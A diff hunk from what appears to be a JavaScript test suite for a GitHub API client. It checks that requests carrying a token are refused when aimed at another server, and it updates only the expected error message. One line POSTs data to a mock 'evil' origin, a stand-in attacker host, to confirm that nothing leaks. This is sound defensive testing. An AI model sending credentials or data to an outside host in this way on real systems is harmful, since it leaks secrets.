@@ -116,7 +116,7 @@ describe("a token that is for another server", () => {
         what === "the next page"
           ? octokit.paginate(octokit.rest.repos.listReleases, { owner: "o", repo: "r" })
           : octokit.request({ method: "POST", url: `${evil.origin}/assets`, data: "x" });
-      await expect(asked).rejects.toThrow("is not its own");
+      await expect(asked).rejects.toThrow("is on another server");
       expect(evil.heard).toEqual([]);
     },
   );
